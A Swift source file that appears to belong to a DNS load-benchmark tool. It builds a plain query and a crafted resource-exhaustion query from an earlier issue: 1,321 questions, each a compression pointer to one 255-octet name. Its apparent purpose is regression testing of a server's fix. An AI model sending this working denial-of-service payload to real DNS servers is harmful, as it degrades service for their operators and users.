/// The datagrams `lbbench dns --attack` sends: a plain query, and the crafted query of issue 12
/// that once cost the server 1,000 times more (1,321 questions in 8 KB, each a compression
/// pointer to one 255-octet name).
enum DNSAttackPackets {
    /// An A query for `name` (dotted, without the final dot) with the given id.
    static func plainQuery(_ name: String, id: UInt16) -> [UInt8] {
        var bytes: [UInt8] = [UInt8(id >> 8), UInt8(id & 0xFF), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]
        for label in name.split(separator: ".") {
            bytes.append(UInt8(label.utf8.count))
            bytes += Array(label.utf8)
        }
        return bytes + [0, 0, 1, 0, 1]
    }

    /// A 255-octet name in wire form (labels of 63, 63, 63 and 61 octets, then the root).
    static let longName: [UInt8] =
        [63] + Array(repeating: UInt8(ascii: "a"), count: 63) + [63]
        + Array(repeating: UInt8(ascii: "b"), count: 63) + [63]
        + Array(repeating: UInt8(ascii: "c"), count: 63) + [61]
        + Array(repeating: UInt8(ascii: "d"), count: 61) + [0]

    /// `questions` questions, the first holding the long name at offset 12 and every other one a
    /// pointer to it; with `response`, QR is set (a server should answer nothing).
    static func crafted(id: UInt16, questions: Int = 1321, response: Bool = false) -> [UInt8] {
        var bytes: [UInt8] = [UInt8(id >> 8), UInt8(id & 0xFF), response ? 0x81 : 0x01, 0x00]
        bytes += [UInt8(questions >> 8), UInt8(questions & 0xFF), 0, 0, 0, 0, 0, 0]
        bytes += longName + [0, 1, 0, 1]
        for _ in 1..<questions { bytes += [0xC0, 12, 0, 1, 0, 1] }
        return bytes
    }
}
